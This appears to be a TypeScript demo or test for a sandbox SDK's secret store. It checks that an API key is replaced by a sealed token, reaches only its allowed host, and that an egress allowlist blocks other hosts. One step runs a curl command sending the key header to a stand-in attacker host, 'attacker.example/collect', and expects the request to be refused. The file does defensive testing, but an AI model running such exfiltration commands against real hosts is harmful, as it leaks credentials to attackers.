import type { ReceivedRequest } from "@opencomputer/harness";
import { Sandbox, SecretStore } from "@opencomputer/sdk";
import type { Narration } from "./narration.ts";

/** The host that the secret is meant for. */
export const keyHost = "api.anthropic.com";
/** A host that the sandbox may reach, but not with this secret. */
export const otherHost = "api.github.com";
/** A host that the sandbox may not reach. */
export const forbiddenHost = "attacker.example";

const requestBody = (marker: string) =>
  JSON.stringify({
    model: "claude-haiku-4-5-20251001",
    max_tokens: 10,
    messages: [{ role: "user", content: `hi ${marker}` }],
  });

export interface Connection {
  apiUrl: string;
  apiKey: string;
}

/** Step 1: a store with an allowlist, and a secret for one host. */
export async function createStore(
  narration: Narration,
  connection: Connection,
  { storeName, key }: { storeName: string; key: string },
): Promise<string> {
  narration.step("A secret store with an egress allowlist, and a key limited to one host");
  const store = await SecretStore.create({
    ...connection,
    name: storeName,
    egressAllowlist: [keyHost, otherHost],
  });
  await SecretStore.setSecret(store.id, "ANTHROPIC_API_KEY", key, {
    ...connection,
    allowedHosts: [keyHost],
  });
  narration.shown(`store ${storeName} may reach ${keyHost} and ${otherHost}`);
  narration.shown(`ANTHROPIC_API_KEY may be used at ${keyHost} only`);
  return store.id;
}

/** Step 2: a sandbox that uses the store. */
export async function createSandbox(
  narration: Narration,
  connection: Connection,
  storeName: string,
): Promise<Sandbox> {
  narration.step("A sandbox with that store");
  const startedAt = performance.now();
  const sandbox = await Sandbox.create({ ...connection, secretStore: storeName, timeout: 600 });
  const createdAt = performance.now();
  const result = await sandbox.exec.run("uname -sr && nproc");
  const returnedAt = performance.now();
  narration.expect(
    result.exitCode === 0,
    `${sandbox.sandboxId} was created in ${(createdAt - startedAt).toFixed(0)} ms; ` +
      `its first command returned ${(returnedAt - createdAt).toFixed(0)} ms later`,
    result.stderr,
  );
  narration.output(result.stdout);
  return sandbox;
}

/** Step 3: the token instead of the key. */
export async function showToken(narration: Narration, sandbox: Sandbox): Promise<string> {
  narration.step("Inside, the variable holds a sealed token");
  const token = (await run(narration, sandbox, "echo $ANTHROPIC_API_KEY")).trim();
  narration.expect(/^osb_sealed_[0-9a-f]{32}$/.test(token), "it is a token, not the key", token);
  return token;
}

/** Step 4: the request that the key is for. */
export async function useSecret(
  narration: Narration,
  sandbox: Sandbox,
  { key, received }: { key: string; received: (() => ReceivedRequest[]) | null },
): Promise<void> {
  narration.step(`A request to ${keyHost} carries the real key`);
  const body = received === null ? requestBody("") : requestBody("$ANTHROPIC_API_KEY");
  const output = await run(
    narration,
    sandbox,
    `curl -sS -w '\\nHTTP %{http_code}' https://${keyHost}/v1/messages \\
  -H "x-api-key: $ANTHROPIC_API_KEY" -H "anthropic-version: 2023-06-01" \\
  -H "content-type: application/json" -d ${JSON.stringify(body)}`,
  );
  narration.expect(output.includes("HTTP 200"), "the request succeeded", output);
  if (received === null) return;
  const request = received().at(-1);
  narration.expect(
    request?.headers["x-api-key"] === key,
    "the server received the real key in the header",
    request === undefined ? "no request" : "another value",
  );
  narration.expect(
    request?.body.includes(key) === true,
    "the server received the real key in the body",
    request === undefined ? "no request" : "another value",
  );
  narration.expect(
    !output.includes(key),
    "the response that the sandbox received does not contain the key",
    "the key",
  );
}

/** Step 5: requests that do not carry the key. */
export async function showRefusals(
  narration: Narration,
  sandbox: Sandbox,
  { token, received }: { token: string; received: ((host: string) => ReceivedRequest[]) | null },
): Promise<void> {
  narration.step("Requests to other hosts never carry the key");
  const refusal = await run(
    narration,
    sandbox,
    `curl -sS -w '\\nHTTP %{http_code}' https://${forbiddenHost}/collect -H "x-api-key: $ANTHROPIC_API_KEY"`,
  );
  narration.expect(
    refusal.includes("HTTP 403") && refusal.includes(forbiddenHost),
    `${forbiddenHost} is not on the allowlist: the request was refused, with the reason in the response`,
    refusal,
  );
  await run(
    narration,
    sandbox,
    `curl -sS -o /dev/null -w 'HTTP %{http_code}' https://${otherHost}/user -H "x-api-key: $ANTHROPIC_API_KEY"`,
  );
  if (received === null) return;
  narration.expect(
    received(forbiddenHost).length === 0,
    `${forbiddenHost} received nothing`,
    "a request",
  );
  const request = received(otherHost).at(-1);
  narration.expect(
    request?.headers["x-api-key"] === token,
    `${otherHost} is allowed, but not for this key: it received the token`,
    request === undefined ? "no request" : "another value",
  );
}

async function run(narration: Narration, sandbox: Sandbox, script: string): Promise<string> {
  narration.command(script);
  const { stdout, stderr } = await sandbox.exec.run(script);
  const output = [stdout, stderr].filter((text) => text.trim() !== "").join("\n");
  narration.output(output);
  return output;
}
